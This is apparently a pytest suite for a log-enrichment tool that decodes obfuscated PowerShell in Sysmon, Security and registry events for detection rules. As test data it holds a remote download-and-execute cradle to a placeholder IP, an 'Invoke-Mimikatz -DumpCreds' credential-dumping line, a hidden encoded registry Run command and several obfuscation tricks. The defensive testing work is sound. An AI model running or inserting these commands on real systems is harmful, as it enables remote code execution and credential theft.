"""stream.enrich: derived sigstream_* fields, their bounds, and the no-op path."""
from __future__ import annotations

import base64
import gzip
import time

import pytest

from sigstream.stream import enrich as E
from sigstream.stream.engine import Engine
from sigstream.stream.rules import load_rule_text

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')"


def enc(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def proc(cl: str, **kw) -> dict:
    return {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "CommandLine": cl, **kw}


# --- encoded commands -------------------------------------------------------------------

@pytest.mark.parametrize("flag", ["-e", "-ec", "-en", "-enc", "-enco", "-EncodedCommand", "-encodedc",
                                  "/enc", "\u2013enc", "\u2014e", "\u2015ec", "-ENC"])
def test_every_unambiguous_spelling_of_encodedcommand_is_decoded(flag):
    ev = proc(f"powershell.exe -nop {flag} {enc(CRADLE)}")
    E.enrich(ev)
    assert ev["sigstream_CommandLineDecoded"] == CRADLE


@pytest.mark.parametrize("quoted", ['"{}"', "'{}'", ":{}"])
def test_quoted_and_colon_forms(quoted):
    ev = proc("powershell -EncodedCommand" + (" " if quoted[0] != ":" else "") + quoted.format(enc(CRADLE)))
    E.enrich(ev)
    assert ev["sigstream_CommandLineDecoded"] == CRADLE


@pytest.mark.parametrize("flag", ["-ex", "-ExecutionPolicy", "-encodedarguments", "-exec", "-f"])
def test_other_parameters_are_not_decoded(flag):
    ev = proc(f"powershell.exe {flag} {enc(CRADLE)}")
    E.enrich(ev)
    assert "sigstream_CommandLineDecoded" not in ev


def test_parent_command_line_is_decoded_too():
    ev = proc("cmd.exe /c whoami", ParentCommandLine=f"powershell -enc {enc(CRADLE)}")
    E.enrich(ev)
    assert ev["sigstream_ParentCommandLineDecoded"] == CRADLE
    assert "sigstream_CommandLineDecoded" not in ev


def test_security_4688_command_lines():
    ev = {"EventID": 4688, "Channel": "Security", "CommandLine": f"powershell -enc {enc(CRADLE)}"}
    E.enrich(ev)
    assert ev["sigstream_CommandLineDecoded"] == CRADLE


def test_nested_base64_layer_is_decoded():
    inner = base64.b64encode(b"Write-Output 'stage three'").decode()
    outer = f"IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}')))"
    ev = proc(f"powershell -enc {enc(outer)}")
    E.enrich(ev)
    assert outer in ev["sigstream_CommandLineDecoded"]
    assert "Write-Output 'stage three'" in ev["sigstream_CommandLineDecoded"]


def test_gzip_layer_and_char_arrays():
    gz = base64.b64encode(gzip.compress(b"Invoke-Mimikatz -DumpCreds")).decode()
    cl = (f"powershell -c \"IEX(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream("
          f"[IO.MemoryStream][Convert]::FromBase64String('{gz}'),0))).ReadToEnd()\"")
    ev = proc(cl)
    E.enrich(ev)
    assert "Invoke-Mimikatz -DumpCreds" in ev["sigstream_CommandLineDecoded"]
    ev = proc("powershell -c \"iex(-join [char[]](119,104,111,97,109,105))\"")
    E.enrich(ev)
    assert ev["sigstream_CommandLineDecoded"] == "whoami"
    ev = proc("powershell -c \"iex([char]0x77+[char]104+[char]111+[char]97+[char]109+[char]105)\"")
    E.enrich(ev)
    assert ev["sigstream_CommandLineDecoded"] == "whoami"


def test_depth_is_bounded():
    text = "Write-Output 'core'"
    for _ in range(8):  # eight nested FromBase64String layers
        b = base64.b64encode(text.encode()).decode()
        text = f"IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b}')))"
    ev = proc(f"powershell -enc {enc(text)}")
    E.enrich(ev)
    layers = ev["sigstream_CommandLineDecoded"].split("\n")
    assert len(layers) == 1 + E.MAX_DEPTH
    assert "core" not in ev["sigstream_CommandLineDecoded"]


def test_gzip_bomb_is_bounded():
    bomb = base64.b64encode(gzip.compress(b"A" * (20 * 1024 * 1024))).decode()
    ev = proc(f"powershell -c \"[Convert]::FromBase64String('{bomb}')\"")
    t = time.perf_counter()
    E.enrich(ev)
    assert time.perf_counter() - t < 1.0
    assert len(ev.get("sigstream_CommandLineDecoded", "")) <= E.MAX_DECODED


def test_huge_and_invalid_base64():
    huge = enc("Write-Output 1;" * 200_000)  # ~8 MB of base64
    ev = proc(f"powershell -enc {huge}")
    t = time.perf_counter()
    E.enrich(ev)
    assert time.perf_counter() - t < 1.0
    assert len(ev.get("sigstream_CommandLineDecoded", "")) <= E.MAX_DECODED
    for bad in ["!!!!notbase64!!!!", "A" * 9, base64.b64encode(bytes(range(256))).decode(),
                base64.b64encode("中文中文中文中文".encode("utf-8")).decode()]:
        ev = proc(f"powershell -enc {bad}")
        E.enrich(ev)
        assert "sigstream_CommandLineDecoded" not in ev, bad


def test_never_overwrites_existing_fields():
    ev = proc(f"powershell -enc {enc(CRADLE)}", sigstream_CommandLineDecoded="original")
    E.enrich(ev)
    assert ev["sigstream_CommandLineDecoded"] == "original"
    ev = {"EventID": 4104, "ScriptBlockText": "Get-Date", "sigstream_ScriptLength": -1}
    E.enrich(ev)
    assert ev["sigstream_ScriptLength"] == -1 and ev["sigstream_ScriptEntropy"] > 0


def test_original_fields_are_untouched():
    ev = proc(f"powershell -enc {enc(CRADLE)}")
    before = dict(ev)
    E.enrich(ev)
    assert {k: ev[k] for k in before} == before
    assert all(k in before or k.startswith(E.PREFIX) for k in ev)


# --- script blocks ----------------------------------------------------------------------

def sb(text: str) -> dict:
    ev = {"EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "ScriptBlockText": text}
    E.enrich(ev)
    return ev


def test_script_statistics():
    ev = sb("aaaa")
    assert ev["sigstream_ScriptLength"] == 4
    assert ev["sigstream_ScriptEntropy"] == 0.0
    assert ev["sigstream_ScriptSpecialCharRatio"] == 0.0
    ev = sb("ab$%")
    assert ev["sigstream_ScriptEntropy"] == 2.0
    assert ev["sigstream_ScriptSpecialCharRatio"] == 0.5
    ev = sb("I`E`X ('Ne'+'w-Ob'+'ject')")
    assert ev["sigstream_ScriptBacktickCount"] == 2
    assert ev["sigstream_ScriptConcatCount"] == 2
    assert ev["sigstream_ScriptIexComputed"] is True


@pytest.mark.parametrize("text,expected", [
    ("IEX (New-Object Net.WebClient).DownloadString($u)", True),
    ("Invoke-Expression $payload", True),
    ("$s | iex", True),
    ("&( $env:comspec[4,15,25]-Join'') ($x)", True),
    (".( $PSHome[21]+$PSHome[30]+'x') $y", True),
    ("&('I'+'EX') $y", True),
    ("Get-Help Invoke-Expression", False),
    ("Write-Output 'complex index'", False),
])
def test_iex_on_computed_strings(text, expected):
    assert sb(text)["sigstream_ScriptIexComputed"] is expected


def test_script_nested_layers():
    b = base64.b64encode(b"Start-Process calc").decode()
    ev = sb(f"$x=[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{b}'))")
    assert ev["sigstream_ScriptDecoded"] == "Start-Process calc"
    assert "sigstream_ScriptDecoded" not in sb("Get-ChildItem C:\\")


def test_rules_can_compare_script_numbers():
    rule = load_rule_text("""
title: obfuscation
logsource: {product: windows, category: ps_script}
detection:
    selection: {sigstream_ScriptBacktickCount|gte: 3, sigstream_ScriptIexComputed: true}
    condition: selection
""").rules
    engine = Engine(rule, enrich=E.enrich, use_cache=False)
    hit = {"EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational",
           "ScriptBlockText": "I`E`X (N`ew-Object Net.WebClient).DownloadString($u)"}
    miss = {"EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational",
            "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString($u)"}
    assert engine.match(hit) and not engine.match(miss)


# --- registry values -------------------------------------------------------------------

def reg(details: str) -> dict:
    ev = {"EventID": 13, "Channel": "Microsoft-Windows-Sysmon/Operational", "EventType": "SetValue",
          "TargetObject": r"HKU\S-1\Software\x\d", "Details": details}
    E.enrich(ev)
    return ev


def test_registry_base64_script():
    ev = reg(base64.b64encode(b"$b=[Convert]::FromBase64String($d);IEX $b").decode())
    assert ev["sigstream_DetailsIsBase64"] is True and ev["sigstream_DetailsIsScript"] is True
    assert ev["sigstream_DetailsIsPE"] is False and ev["sigstream_DetailsIsHex"] is False
    assert ev["sigstream_DetailsDecoded"].startswith("$b=[Convert]")
    assert ev["sigstream_DetailsLength"] == len(ev["Details"])


def test_registry_pe_base64_and_hex():
    pe = b"MZ\x90\x00" + bytes(range(256)) * 10
    ev = reg(base64.b64encode(pe).decode())
    assert ev["sigstream_DetailsIsPE"] is True and ev["sigstream_DetailsIsBase64"] is True
    assert ev["sigstream_DetailsDecoded"].startswith("MZ..")
    assert len(ev["sigstream_DetailsDecoded"]) <= E.DETAILS_PREVIEW
    ev = reg(pe.hex())
    assert ev["sigstream_DetailsIsPE"] is True and ev["sigstream_DetailsIsHex"] is True
    ev = reg(",".join(f"{b:02x}" for b in pe[:64]))  # .reg style hex bytes
    assert ev["sigstream_DetailsIsPE"] is True and ev["sigstream_DetailsIsHex"] is True


def test_registry_utf16_script_and_encrypted_blob():
    ev = reg(base64.b64encode("CreateObject(\"WScript.Shell\").Run \"calc\"".encode("utf-16-le")).decode())
    assert ev["sigstream_DetailsIsScript"] is True
    blob = base64.b64encode(bytes((i * 197 + 13) % 256 for i in range(2048))).decode()
    ev = reg(blob)
    assert ev["sigstream_DetailsIsBase64"] is True and ev["sigstream_DetailsIsScript"] is False
    assert ev["sigstream_DetailsDecodedEntropy"] > 7.5
    assert "sigstream_DetailsDecoded" not in ev


def test_registry_run_value_with_encoded_command():
    ev = reg(f"powershell.exe -w hidden -enc {enc(CRADLE)}")
    assert ev["sigstream_DetailsDecoded"] == CRADLE
    assert ev["sigstream_DetailsIsScript"] is True and ev["sigstream_DetailsIsBase64"] is False


@pytest.mark.parametrize("details", [
    "DWORD (0x00000001)", "Binary Data", r"C:\Program Files\Vendor\agent.exe /background",
    "MicrosoftEdgeUpdateTaskMachineCoreAndUA", "{6B2A4F81-0C3D-4E59-A7B1-93D0F5C2E846}",
    r"C:\Program Files\PowerShell\7\pwsh.exe", "12345678901234567890123456789012345",
])
def test_registry_ordinary_values(details):
    ev = reg(details)
    assert not any(ev[f"sigstream_DetailsIs{k}"] for k in ("Base64", "Hex", "PE", "Script"))
    assert "sigstream_DetailsDecoded" not in ev


def test_registry_huge_value_is_bounded():
    ev = reg(base64.b64encode(b"IEX $x;" * 2_000_000).decode())
    assert len(ev["sigstream_DetailsDecoded"]) <= E.DETAILS_PREVIEW


# --- the no-op path ----------------------------------------------------------------------

@pytest.mark.parametrize("ev", [
    {"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "DestinationIp": "192.0.2.1"},
    {"EventID": 4624, "Channel": "Security"},
    {"EventID": "x"}, {"EventID": None}, {},
    {"EventID": 1, "CommandLine": None}, {"EventID": 4104, "ScriptBlockText": 5}, {"EventID": 13},
    {"EventID": 1, "CommandLine": "C:\\Windows\\explorer.exe"},
])
def test_nothing_added_when_nothing_applies(ev):
    before = dict(ev)
    E.enrich(ev)
    assert ev == before


def test_string_event_ids_are_understood():
    ev = proc(f"powershell -enc {enc(CRADLE)}")
    ev["EventID"] = "1"
    E.enrich(ev)
    assert ev["sigstream_CommandLineDecoded"] == CRADLE


def test_noop_path_is_cheap():
    events = [{"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": "x"}] * 20000
    events += [{"EventID": 1, "CommandLine": r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"}] * 20000
    t = time.perf_counter()
    for ev in events:
        E.enrich(ev)
    per_event = (time.perf_counter() - t) / len(events)
    assert per_event < 20e-6, per_event  # well under the ~50 µs an event costs to match
